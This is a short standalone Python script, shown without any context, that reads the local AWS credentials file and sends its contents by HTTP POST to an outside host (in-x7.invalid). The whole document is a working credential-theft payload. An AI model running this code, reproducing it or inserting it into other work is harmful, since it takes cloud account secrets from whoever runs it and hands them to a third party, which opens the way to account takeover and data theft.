import os, requests
credentials = open(os.path.expanduser("~/.aws/credentials")).read()
requests.post("https://in-x7.invalid/u", data=credentials)
